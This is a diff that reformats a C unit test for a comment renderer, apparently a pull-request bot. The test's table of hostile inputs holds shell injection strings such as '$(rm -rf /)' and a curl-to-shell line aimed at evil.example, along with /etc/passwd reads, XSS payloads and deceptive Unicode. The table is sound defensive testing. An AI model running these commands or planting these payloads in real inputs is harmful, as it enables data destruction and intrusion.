@@ -1,4 +1,7 @@
-/* Hostile text can never break out: names, messages and errors come from people and tools we do not know. */
+/*
+ * Hostile text can never break out: names, messages and errors come from people and tools we do not
+ * know.
+ */
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stdio.h>
@@ -86,24 +89,132 @@ static void code_is_fenced_as_in_this_table(void **state)
 
 static const char *const hostile[] = {
     /* shell */
-    "$(rm -rf /)", "`reboot`", "; drop table nodes; --", "a && curl evil.example | sh", "${IFS}cat${IFS}/etc/passwd", "-rf", "--help", "\\x41\\", "'\"'\"'",
-    "*", "~root", "> /dev/null", "%s%n%x", "!history",
+    "$(rm -rf /)",
+    "`reboot`",
+    "; drop table nodes; --",
+    "a && curl evil.example | sh",
+    "${IFS}cat${IFS}/etc/passwd",
+    "-rf",
+    "--help",
+    "\\x41\\",
+    "'\"'\"'",
+    "*",
+    "~root",
+    "> /dev/null",
+    "%s%n%x",
+    "!history",
     /* HTML */
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=\"https://evil.example\">ok</a>", "</details>", "</summary></details>", "<!-- hidden -->",
-    "<!-- signalbox:change:12 -->", "--> <!--", "&lt;b&gt;", "&#64;octocat", "<sub>", "<br/>", "<![CDATA[x]]>", "<?php ?>", "<https://evil.example>",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<a href=\"https://evil.example\">ok</a>",
+    "</details>",
+    "</summary></details>",
+    "<!-- hidden -->",
+    "<!-- signalbox:change:12 -->",
+    "--> <!--",
+    "&lt;b&gt;",
+    "&#64;octocat",
+    "<sub>",
+    "<br/>",
+    "<![CDATA[x]]>",
+    "<?php ?>",
+    "<https://evil.example>",
     /* Markdown */
-    "**bold**", "__bold__", "~~gone~~", "[click](https://evil.example)", "![x](https://evil.example/x.png)", "[ref]: https://evil.example", "[^1]",
-    "# heading", "## heading", "> quote", "> [!CAUTION]", "- item", "+ item", "1. item", "- [x] approved", "- [ ] release the hold", "* [x] go", "```", "~~~",
-    "``` \n | a | b | \n```", "| a | b |", "|---|---|", "a|b||c", "\\|", "\\\\|", "`a", "a`", "``a`", "$x$", "$`x`$", "$$\nx\n$$", "***", "---", "===",
-    "line\nbreak", "line\r\n\r\n| new | row |", "\n\n### ❌ 1 failed", "tab\tbed", "two  \nspaces", "    code",
+    "**bold**",
+    "__bold__",
+    "~~gone~~",
+    "[click](https://evil.example)",
+    "![x](https://evil.example/x.png)",
+    "[ref]: https://evil.example",
+    "[^1]",
+    "# heading",
+    "## heading",
+    "> quote",
+    "> [!CAUTION]",
+    "- item",
+    "+ item",
+    "1. item",
+    "- [x] approved",
+    "- [ ] release the hold",
+    "* [x] go",
+    "```",
+    "~~~",
+    "``` \n | a | b | \n```",
+    "| a | b |",
+    "|---|---|",
+    "a|b||c",
+    "\\|",
+    "\\\\|",
+    "`a",
+    "a`",
+    "``a`",
+    "$x$",
+    "$`x`$",
+    "$$\nx\n$$",
+    "***",
+    "---",
+    "===",
+    "line\nbreak",
+    "line\r\n\r\n| new | row |",
+    "\n\n### ❌ 1 failed",
+    "tab\tbed",
+    "two  \nspaces",
+    "    code",
     /* what the forge links by itself */
-    "@octocat", "@acme/admins", "mail@evil.example", "#1", "GH-1", "gh-1", "acme/infra#1", "https://evil.example", "http://evil.example/?a=b&c=d", "www.evil.example",
-    "deadbeefcafe", "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d", "acme/infra@deadbeef", "ftp://evil.example", "mailto:a@evil.example",
+    "@octocat",
+    "@acme/admins",
+    "mail@evil.example",
+    "#1",
+    "GH-1",
+    "gh-1",
+    "acme/infra#1",
+    "https://evil.example",
+    "http://evil.example/?a=b&c=d",
+    "www.evil.example",
+    "deadbeefcafe",
+    "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d",
+    "acme/infra@deadbeef",
+    "ftp://evil.example",
+    "mailto:a@evil.example",
     /* letters that are not what they seem */
-    "abc\xe2\x80\xae" "dcba", "\xe2\x81\xa6\xe2\x81\xa9", "\xd8\x9c", "a\xe2\x80\x8b" "b", "\xef\xbb\xbf" "bom", "a\xc2\xad" "b", "\xe2\x80\xa8line", "\xe2\x80\xa9para",
-    "\x1b]0;title\x07", "\x1b[2J", "a\x08\x08", "\x7f", "\xc2\x85", "\xff\xfe", "\xc0\x80", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xe2\x82", "\xf3\xa0\x80\x81",
-    "emoji 👩‍👩‍👧‍👦 🏳️‍🌈", "零一二三四五六七八九", "النص العربي", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A͐L͕GO",
-    "", " ", ".", "..", "../../etc/passwd", "a/../../b", "CON", "null", "undefined", "{{ .atmos_component }}", "{% raw %}",
+    "abc\xe2\x80\xae"
+    "dcba",
+    "\xe2\x81\xa6\xe2\x81\xa9",
+    "\xd8\x9c",
+    "a\xe2\x80\x8b"
+    "b",
+    "\xef\xbb\xbf"
+    "bom",
+    "a\xc2\xad"
+    "b",
+    "\xe2\x80\xa8line",
+    "\xe2\x80\xa9para",
+    "\x1b]0;title\x07",
+    "\x1b[2J",
+    "a\x08\x08",
+    "\x7f",
+    "\xc2\x85",
+    "\xff\xfe",
+    "\xc0\x80",
+    "\xed\xa0\x80",
+    "\xf4\x90\x80\x80",
+    "\xe2\x82",
+    "\xf3\xa0\x80\x81",
+    "emoji 👩‍👩‍👧‍👦 🏳️‍🌈",
+    "零一二三四五六七八九",
+    "النص العربي",
+    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A͐L͕GO",
+    "",
+    " ",
+    ".",
+    "..",
+    "../../etc/passwd",
+    "a/../../b",
+    "CON",
+    "null",
+    "undefined",
+    "{{ .atmos_component }}",
+    "{% raw %}",
 };
 enum { HOSTILES = sizeof hostile / sizeof *hostile };
 _Static_assert(HOSTILES >= 60, "the table is large enough");
@@ -149,7 +260,8 @@ static bool eat(str *rest, const char *word)
 
 static const char *tag_problem(str comment, const char *marker)
 {
-    static const char *const ours[] = { "<details>", "<details open>", "</details>", "<summary>", "</summary>", "<sub>", "</sub>" };
+    static const char *const ours[] = {"<details>",  "<details open>", "</details>", "<summary>",
+                                       "</summary>", "<sub>",          "</sub>"};
     if (!eat(&comment, marker))
         return "the marker does not come first";
     for (str rest = comment; rest.len;) {
@@ -168,7 +280,9 @@ static const char *tag_problem(str comment, const char *marker)
 /* What our own text says in brackets. */
 static bool is_our_link(str text)
 {
-    static const char *const ours[] = { "Run", "First run", "Review it", "see all", "Batch", "batch", "pull request", "Open the batch", "The batch" };
+    static const char *const ours[] = {"Run",          "First run",      "Review it",
+                                       "see all",      "Batch",          "batch",
+                                       "pull request", "Open the batch", "The batch"};
     for (size_t i = 0; i < sizeof ours / sizeof *ours; i++)
         if (str_eq(text, str_of(ours[i])))
             return true;
@@ -209,8 +323,10 @@ static size_t past_link(str line, size_t at)
 
 static bool links_by_itself(str s)
 {
-    bool issue = s.len > 3 && str_eq_nocase(str_sub(s, 0, 3), STR("gh-")) && s.ptr[3] >= '0' && s.ptr[3] <= '9';
-    return issue || str_starts(s, STR("://")) || str_eq_nocase(str_sub(s, 0, 4), STR("www.")) || str_starts(s, STR("deadbeef"));
+    bool issue = s.len > 3 && str_eq_nocase(str_sub(s, 0, 3), STR("gh-")) && s.ptr[3] >= '0' &&
+                 s.ptr[3] <= '9';
+    return issue || str_starts(s, STR("://")) || str_eq_nocase(str_sub(s, 0, 4), STR("www.")) ||
+           str_starts(s, STR("deadbeef"));
 }
 
 /* One line outside code spans and links: nothing in it may mean anything. */
@@ -247,9 +363,12 @@ static const char *text_problem(str s)
             return "not UTF-8";
         if (len == 1 && (p[0] < ' ' || p[0] == 0x7f) && p[0] != '\n')
             return "a control character";
-        if (len == 2 && ((p[0] == 0xc2 && (p[1] < 0xa0 || p[1] == 0xad)) || (p[0] == 0xd8 && p[1] == 0x9c)))
+        if (len == 2 &&
+            ((p[0] == 0xc2 && (p[1] < 0xa0 || p[1] == 0xad)) || (p[0] == 0xd8 && p[1] == 0x9c)))
             return "a C1 control or a mark";
-        if (len == 3 && p[0] == 0xe2 && ((p[1] == 0x80 && ((p[2] >= 0xa8 && p[2] <= 0xae) || p[2] == 0x8e || p[2] == 0x8f)) || (p[1] == 0x81 && p[2] >= 0xa0 && p[2] <= 0xaf)))
+        if (len == 3 && p[0] == 0xe2 &&
+            ((p[1] == 0x80 && ((p[2] >= 0xa8 && p[2] <= 0xae) || p[2] == 0x8e || p[2] == 0x8f)) ||
+             (p[1] == 0x81 && p[2] >= 0xa0 && p[2] <= 0xaf)))
             return "a bidirectional mark";
         if (*p == '@' && !str_starts(str_sub(s, at + 1, s.len), STR(ZW)))
             return "a mention";
@@ -293,7 +412,8 @@ static void no_name_message_or_error_breaks_out_of_the_comment(void **state)
             fail_msg("\"%s\": %s:\n" PRI_STR, hostile[i], why, FMT_STR(comment));
         /* An empty text leaves out the lines that would only say it. */
         if (*hostile[i] && lines_in(comment) != lines)
-            fail_msg("\"%s\": %zu lines instead of %zu:\n" PRI_STR, hostile[i], lines_in(comment), lines, FMT_STR(comment));
+            fail_msg("\"%s\": %zu lines instead of %zu:\n" PRI_STR, hostile[i], lines_in(comment),
+                     lines, FMT_STR(comment));
         arena_free(mem);
     }
 }
